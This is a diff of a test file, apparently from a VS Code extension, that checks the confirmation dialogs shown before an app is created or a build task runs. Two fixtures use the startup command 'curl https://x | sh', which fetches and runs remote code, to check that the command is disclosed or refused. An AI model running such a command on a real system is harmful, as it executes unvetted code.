@@ -8,21 +8,22 @@ import { withConsent } from "../../../../src/editor/arguments/consent";
 import { type CreateFlowOptions, runCreateFlow } from "../../../../src/features/create/createFlow";
 import { newFromTemplate } from "../../../../src/features/create/template/newFromTemplate";
 import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
+import { writeTree } from "../../../support/fileTrees";
 import { MemoryState } from "../../../support/memoryState";
 import { realFiles } from "../../../support/realFiles";
 import { inRepository } from "../../../support/repository";
 import { someAccount, someAccounts, someApp, someTeam } from "../../../support/someApp";
 import { temporaryFolder } from "../../../support/temporaryFolder";
-import { tasks, workspace } from "../../../support/vscodeParts";
+import { answerPicks, commands, tasks, window, workspace } from "../../../support/vscodeParts";
 
 describe("the question before something is created", () => {
-  let window: AskedWindow;
+  let asked: AskedWindow;
   let folder: string;
   let sent: number;
   let looked: number;
 
   beforeEach(() => {
-    [window, folder, sent, looked] = [askedWindow(), temporaryFolder("create-question"), 0, 0];
+    [asked, folder, sent, looked] = [askedWindow(), temporaryFolder("create-question"), 0, 0];
     Object.assign(workspace, {
       fs: realFiles,
       getWorkspaceFolder: () => ({ uri: vscode.Uri.file(folder) }),
@@ -38,6 +39,7 @@ describe("the question before something is created", () => {
     const account = someAccount({ apps: [someApp({ teamId: "team" })], teams: [someTeam({ owner: "me" })] });
     return {
       ...{ accounts: someAccounts(account), state: new MemoryState(), underWay: new Set() },
+      extensionUri: vscode.Uri.file(inRepository(".")),
       clock: { now: () => 0 },
       diagnostics: { show: () => undefined, forget: () => undefined },
       records: {
@@ -62,7 +64,7 @@ describe("the question before something is created", () => {
   it("names what hosted-app.json adds: the team, the start and that the web reaches it", async () => {
     project({ name: "Shop", team: "team", startupCommand: "curl https://x | sh\n", exposedViaWeb: true });
     await assert.rejects(create({ settings: { mainFile: "main.py" } }), { name: "CancelledError" });
-    const [{ text, lines, buttons } = { text: "", lines: [], buttons: [] }] = window.asked;
+    const [{ text, lines, buttons } = { text: "", lines: [], buttons: [] }] = asked.asked;
     assert.deepEqual([text, buttons], ["Create Shop?", ["Create"]]);
     assert.match(lines[0] ?? "", /^From .*create-question.*: 2 files/);
     assert.deepEqual(lines.slice(1), [
@@ -72,7 +74,7 @@ describe("the question before something is created", () => {
       "It can be reached from the web.",
     ]);
     assert.equal(sent, 0);
-    window.answer = "Create";
+    asked.answer = "Create";
     await assert.rejects(create({ settings: { mainFile: "main.py" } }));
     assert.equal(sent, 1);
   });
@@ -81,7 +83,7 @@ describe("the question before something is created", () => {
     project({ name: "Shop", team: "65a0" });
     await assert.rejects(create({ settings: { mainFile: "main.py" } }), { name: "CancelledError" });
     assert.ok(
-      window.asked[0]?.lines.includes("The app belongs to the team 65a0, whose members can read its files."),
+      asked.asked[0]?.lines.includes("The app belongs to the team 65a0, whose members can read its files."),
     );
   });
 
@@ -91,19 +93,19 @@ describe("the question before something is created", () => {
       startupCommand: `python main.py ${"x".repeat(9_000)}; curl https://x | sh; ${"y".repeat(9_000)}`,
     });
     await assert.rejects(create({ settings: { mainFile: "main.py" } }), /too long to be shown whole/);
-    assert.deepEqual([window.asked, sent], [[], 0]);
+    assert.deepEqual([asked.asked, sent], [[], 0]);
   });
 
   it("is about the task of hosted-app.json first, also where the user is asked for the rest", async () => {
     project({ preDeployTask: "npm: build" });
     for (const own of [{}, { settings: {} }]) await assert.rejects(create(own), { name: "CancelledError" });
     assert.deepEqual(
-      window.asked.map(({ text }) => text),
+      asked.asked.map(({ text }) => text),
       ["Run the task “npm: build”?", "Run the task “npm: build”?"],
     );
-    assert.match(window.asked[0]?.lines.join(" ") ?? "", /hosted-app\.json/);
+    assert.match(asked.asked[0]?.lines.join(" ") ?? "", /hosted-app\.json/);
     assert.equal(looked, 0);
-    window.answer = "Run Task";
+    asked.answer = "Run Task";
     await assert.rejects(create({ settings: {} }), /was not found/);
     assert.equal(looked, 1);
   });
@@ -129,17 +131,68 @@ describe("the question before something is created", () => {
         return execution;
       },
     });
-    window.answer = "Run Task";
+    asked.answer = "Run Task";
     await assert.rejects(create({ settings: {} }), { name: "CancelledError" });
-    assert.equal(window.asked.at(-1)?.text, "Create Shop?");
-    assert.ok(window.asked.at(-1)?.lines.includes("hosted-app.json runs the task “npm: build” first."));
+    assert.equal(asked.asked.at(-1)?.text, "Create Shop?");
+    assert.ok(asked.asked.at(-1)?.lines.includes("hosted-app.json runs the task “npm: build” first."));
   });
 
   it("is not about the task where our own code calls, which has asked", async () => {
     project({ preDeployTask: "npm: build" });
     const creating = runCreateFlow(withConsent(argument({ settings: {} })), options());
     await assert.rejects(creating, /“npm: build” was not found\. Nothing was sent\./);
-    assert.deepEqual([window.asked.filter(({ text }) => text.startsWith("Run ")), looked], [[], 1]);
+    assert.deepEqual([asked.asked.filter(({ text }) => text.startsWith("Run ")), looked], [[], 1]);
+  });
+
+  it("starts an empty folder from a template, the first choice, and goes on with it", async () => {
+    const answers = ["Discord Bot in Python"];
+    const titles: string[] = [];
+    const first: string[] = [];
+    answerPicks(({ title = "", items }) => {
+      titles.push(title);
+      first.push(items[0]?.label ?? "");
+      return answers.shift();
+    });
+    await assert.rejects(create(), { name: "CancelledError" });
+    assert.deepEqual(readdirSync(folder).sort(), [
+      ...[".gitignore", "README.md", "hosted-app.json", "main.py", "requirements.txt"],
+    ]);
+    assert.deepEqual(titles, ["Create App: This folder is empty. Start from a template?", "Create App"]);
+    assert.deepEqual(first, ["Discord Bot in Python", `Create ${path.basename(folder)}`]);
+    assert.equal(sent, 0);
+  });
+
+  it("asks for the template, the name and a place outside of what is open", async () => {
+    writeTree(folder, { "project/inside/main.py": "" });
+    const open = ["project/inside", "project"].map((each) => ({
+      uri: vscode.Uri.file(path.join(folder, each)),
+    }));
+    Object.assign(workspace, { workspaceFolders: open });
+    const answers = ["Web App with Flask", "my-flask"];
+    const shown: (string | undefined)[] = [];
+    answerPicks(({ title, items }) => {
+      shown.push(title, items.find(({ label }) => label === answers[0])?.description);
+      return answers.shift();
+    });
+    const typed: string[] = [];
+    const none = () => ({ dispose: () => undefined });
+    window["createInputBox"] = () => ({
+      ...{ value: "", buttons: [], onDidChangeValue: none, onDidTriggerButton: none, onDidHide: none },
+      ...{ dispose: none, onDidAccept: (listener: () => void) => setImmediate(listener) },
+      show(this: vscode.InputBox) {
+        typed.push(this.title ?? "", this.value);
+      },
+    });
+    const opened: unknown[] = [];
+    commands["executeCommand"] = async (...all: unknown[]) => void opened.push(...all);
+    const services = { extensionUri: vscode.Uri.file(inRepository(".")), everywhere: new MemoryState() };
+    await newFromTemplate(undefined, services as never);
+    assert.deepEqual(shown, [
+      ...["New App (1/3): Template", "Python", "New App (3/3): Folder", `in ${folder}`],
+    ]);
+    assert.deepEqual(typed, ["New App (2/3): Name", "my-flask"]);
+    assert.equal(existsSync(path.join(folder, "my-flask", "app.py")), true);
+    assert.equal(opened[0], "vscode.openFolder");
   });
 
   it("names the template and the folder, and writes nothing without a yes", async () => {
@@ -151,10 +204,10 @@ describe("the question before something is created", () => {
     const run = async () =>
       await newFromTemplate({ template: "flask", folder: vscode.Uri.file(into).toString() }, services);
     await assert.rejects(run(), { name: "CancelledError" });
-    assert.deepEqual(window.asked[0]?.lines, [`In the folder ${into}`]);
-    assert.match(window.asked[0]?.text ?? "", /^Create a project from “.*Flask.*”\?$/);
+    assert.deepEqual(asked.asked[0]?.lines, [`In the folder ${into}`]);
+    assert.match(asked.asked[0]?.text ?? "", /^Create a project from “.*Flask.*”\?$/);
     assert.equal(existsSync(into), false);
-    window.answer = "Create Project";
+    asked.answer = "Create Project";
     await run();
     assert.ok(readdirSync(into).length > 0);
   });
